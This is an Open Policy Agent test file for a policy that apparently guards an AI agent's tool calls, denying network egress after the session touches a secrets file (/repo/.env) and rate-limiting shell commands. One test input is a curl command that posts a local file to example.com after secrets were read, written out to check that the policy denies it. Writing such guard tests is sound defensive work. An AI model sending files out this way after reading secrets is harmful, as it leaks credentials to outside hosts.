package ahp.tool.before.session_guard_test

import data.ahp.tool.before.session_guard

now := 1800000000000000000

shell(command, session) := {
	"tool": {"name": "Bash", "input": {"command": command}},
	"ahp": {
		"tool": {"family": "shell"},
		"shell": {"commands": [{"name": split(command, " ")[0]}]},
		"session": session,
	},
}

fresh := {"secrets_touched": false, "recent": []}

after_env := {"secrets_touched": true, "secret_paths": ["/repo/.env"], "recent": []}

codes(input_doc) := {d.code | some d in session_guard.deny with input as input_doc with time.now_ns as now}

test_curl_after_secret_denied if {
	codes(shell("curl https://example.com -d @notes", after_env)) == {"com.example.session.egress-after-secret"}
}

test_fetch_tool_after_secret_denied if {
	doc := {"tool": {"name": "WebFetch"}, "ahp": {"tool": {"family": "fetch"}, "session": after_env}}
	codes(doc) == {"com.example.session.egress-after-secret"}
}

test_curl_in_clean_session_allowed if {
	codes(shell("curl https://example.com", fresh)) == set()
}

test_local_command_after_secret_allowed if {
	codes(shell("ls -la", after_env)) == set()
}

test_no_session_facts_allowed if {
	codes({"tool": {"name": "Bash"}, "ahp": {"tool": {"family": "shell"}, "shell": {"commands": [{"name": "curl"}]}}}) == set()
}

burst(n, age_ns) := {"secrets_touched": false, "recent": [{"family": "shell", "time_ns": now - age_ns} | some _ in numbers.range(1, n)]}

test_shell_burst_denied if {
	codes(shell("ls", burst(30, 1000000000))) == {"com.example.session.shell-rate"}
}

test_shell_below_budget_allowed if {
	codes(shell("ls", burst(29, 1000000000))) == set()
}

test_old_calls_do_not_count if {
	codes(shell("ls", burst(40, 61000000000))) == set()
}

test_budget_from_data if {
	ds := {d.code | some d in session_guard.deny with input as shell("ls", burst(5, 1000000000))
		with time.now_ns as now
		with data.ahp_opa_examples.max_shell_per_minute as 5}
	ds == {"com.example.session.shell-rate"}
}

test_other_families_not_limited if {
	doc := {"tool": {"name": "Read"}, "ahp": {"tool": {"family": "file_read"}, "session": burst(100, 1000000000)}}
	codes(doc) == set()
}
